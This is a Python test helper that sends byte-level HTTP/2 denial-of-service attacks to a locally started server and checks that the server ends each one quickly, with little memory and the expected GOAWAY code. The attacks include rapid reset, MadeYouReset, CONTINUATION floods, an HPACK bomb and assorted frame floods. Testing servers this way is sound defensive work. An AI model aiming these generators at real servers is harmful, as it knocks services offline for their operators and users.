"""Attacks that have brought HTTP/2 servers down, as bytes that a client sends."""

import asyncio
from collections.abc import Iterator

from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, PriorityFrame, RstStreamFrame, SettingsFrame
from support.http2.peer import Peer, head, message, opened, peer_of
from support.http2.process import ServerProcess

ENHANCE_YOUR_CALM, COMPRESSION_ERROR = 11, 9
MEMORY_BYTES = 32 * 2**20
# So many frames go out in one write.
BATCH = 100

Chunks = Iterator[bytes]


def block(method: str = "hang") -> bytes:
    """A header block that changes no table."""
    return b"".join(
        b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
        for name, value in head(method)
    )


def headers(stream_id: int, more: bytes = b"", *, end: bool = True) -> bytes:
    flags = ["END_HEADERS", "END_STREAM"] if end else ["END_HEADERS"]
    return HeadersFrame(stream_id, block() + more, flags=flags).serialize()


def on_streams(*wrong: "type[RstStreamFrame] | bytes") -> Chunks:
    """Streams that are opened, and at once given a frame of four zeros and this type."""
    for first in range(1, 10**6, 2 * BATCH):
        yield b"".join(
            headers(each) + bytes([0, 0, 4, wrong[0][0], 0]) + each.to_bytes(4, "big") + bytes(4)
            for each in range(first, first + 2 * BATCH, 2)
        )


def running_and_reset() -> Chunks:
    """Calls that are sent as a whole, and cancelled by what is sent next: many have begun by then."""
    for first in range(1, 10**6, 2 * BATCH):
        streams = range(first, first + 2 * BATCH, 2)
        yield b"".join(headers(each, end=False) + DataFrame(each, message(b"")).serialize() for each in streams)
        yield b"".join(RstStreamFrame(each, error_code=8).serialize() for each in streams)


def repeated(frame: bytes, first: bytes = b"") -> Chunks:
    yield first + frame
    for _ in range(20_000):
        yield frame * BATCH


def refused() -> bytes:
    """A call that is answered while its request goes on."""
    call = HeadersFrame(1, block("abort"), flags=["END_HEADERS"]).serialize()
    return call + DataFrame(1, message(b"x")).serialize()


def hpack_bomb() -> Chunks:
    entry = b"\x40\x01x\x7f" + bytes([0xBD, 0x1E - 1]) + b"v" * (0x7F + 0x3D + (0x1D << 7))
    for stream_id in range(1, 1000, 2):
        yield headers(stream_id, (entry if stream_id == 1 else b"") + b"\xbe" * 12_000)


def long_list(stream_id: int) -> bytes:
    """Of which only one thing is known to be wrong, and only at its end: it is too long."""
    field = b"\0\x01a\xff\x83\x7d" + b"\x18\xc6\x31\x8c\x63" * 3226
    pieces = [block() + field[:16_000], field[16_000:] + field[:16_000], field[16_000:]]
    return b"".join(
        [
            HeadersFrame(stream_id, pieces[0], flags=["END_STREAM"]).serialize(),
            *(ContinuationFrame(stream_id, piece).serialize() for piece in pieces[1:-1]),
            ContinuationFrame(stream_id, pieces[-1], flags=["END_HEADERS"]).serialize(),
        ]
    )


def dripped_windows() -> Chunks:
    """A long answer, read byte by byte."""
    call = HeadersFrame(1, block("large"), flags=["END_HEADERS"]).serialize()
    body = DataFrame(1, message(b"4000000"), flags=["END_STREAM"]).serialize()
    yield SettingsFrame(settings={4: 0}).serialize() + call + body
    yield from repeated(opened(1, 1).serialize())


def windows_beside_waiting_writers() -> Chunks:
    """Answers that wait for one another, and a window that is opened for one byte of them at a time."""
    yield SettingsFrame(settings={4: 0}).serialize()
    body = message(b"x" * 16_000)
    for stream_id in range(1, 401, 2):
        call = HeadersFrame(stream_id, block("endless"), flags=["END_HEADERS"]).serialize()
        yield call + DataFrame(stream_id, body, flags=["END_STREAM"]).serialize()
    yield from repeated(opened(1, 1).serialize())


def many_streams() -> Chunks:
    for first in range(1, 200_000, 2 * BATCH):
        yield b"".join(headers(each, end=False) for each in range(first, first + 2 * BATCH, 2))


ATTACKS = {
    "rapid reset": lambda: on_streams(b"\x03"),
    "rapid reset of calls that run": running_and_reset,
    "MadeYouReset by windows": lambda: on_streams(b"\x08"),
    "MadeYouReset by priorities": lambda: on_streams(b"\x02"),
    "CONTINUATION flood": lambda: repeated(
        ContinuationFrame(1, block() * 20).serialize(), HeadersFrame(1, block()).serialize()
    ),
    "CONTINUATION flood of empty frames": lambda: repeated(
        ContinuationFrame(1).serialize(), HeadersFrame(1, block()).serialize()
    ),
    "HPACK bomb": hpack_bomb,
    "header lists over the limit": lambda: (
        headers(each, b"\0\x01a\x7f\x81\x7d" + b"v" * 16_128) for each in range(1, 10**6, 2)
    ),
    "header lists in Huffman's code": lambda: (
        headers(each, b"\0\x01a\xff\x83\x7d" + b"\x18\xc6\x31\x8c\x63" * 3226) for each in range(1, 10**6, 2)
    ),
    "header lists of 50 KB in Huffman's code": lambda: (long_list(each) for each in range(1, 10**6, 2)),
    "PING flood": lambda: repeated(b"\0\0\x08\x06\0\0\0\0\x0012345678"),
    "SETTINGS flood": lambda: repeated(SettingsFrame(settings={4: 65_535}).serialize()),
    "SETTINGS flood of acknowledgements": lambda: repeated(SettingsFrame(flags=["ACK"]).serialize()),
    "PRIORITY flood": lambda: repeated(PriorityFrame(1, depends_on=0).serialize()),
    "empty DATA flood": lambda: repeated(DataFrame(1).serialize(), headers(1, end=False)),
    "padded DATA flood": lambda: repeated(
        DataFrame(1, flags=["PADDED"], pad_length=0).serialize(), headers(1, end=False)
    ),
    "DATA flood of a closed stream": lambda: repeated(DataFrame(1, b"x").serialize(), headers(1)),
    "DATA flood of a stream that was answered early": lambda: repeated(DataFrame(1, b"x").serialize(), refused()),
    "large DATA flood of a stream that was answered early": lambda: (
        (refused() if not number else b"") + DataFrame(1, bytes(16_000)).serialize() * 10 for number in range(10_000)
    ),
    "END_STREAM flood of a stream that was answered early": lambda: repeated(
        DataFrame(1, flags=["END_STREAM"]).serialize(), refused()
    ),
    "unknown frames flood": lambda: repeated(b"\0\0\0\x77\0\0\0\0\0"),
    "WINDOW_UPDATE flood": lambda: repeated(opened(0, 1).serialize()),
    "WINDOW_UPDATE flood of a stream": lambda: repeated(opened(1, 1).serialize(), headers(1)),
    "WINDOW_UPDATE byte by byte": dripped_windows,
    "WINDOW_UPDATE beside waiting writers": windows_beside_waiting_writers,
    "GOAWAY flood": lambda: repeated(b"\0\0\x08\x07\0\0\0\0\0" + bytes(8)),
    "100,000 streams": many_streams,
}
OTHER_CODES = {"HPACK bomb": COMPRESSION_ERROR}


async def attack(peer: Peer, chunks: Chunks) -> int:
    """Sends until the server closes the connection; how many chunks it took."""
    sent = 0
    reading = asyncio.ensure_future(peer.until(lambda: peer.is_closed, 30))
    for chunk in chunks:
        if peer.is_closed:
            break
        await peer.send(chunk)
        sent += 1
        await asyncio.sleep(0)
    await reading
    return sent


async def cpu_seconds(server: ServerProcess, name: str) -> float:
    """The server's CPU time until it has ended the attack, with the right reason and in little memory."""
    async with peer_of(server.port) as peer:
        await peer.ping()
        cpu, memory = server.cpu_seconds(), server.memory_bytes()
        await attack(peer, ATTACKS[name]())
        assert server.memory_bytes() - memory < MEMORY_BYTES
        assert peer.goaway is None or peer.goaway.error_code == OTHER_CODES.get(name, ENHANCE_YOUR_CALM)
        return server.cpu_seconds() - cpu
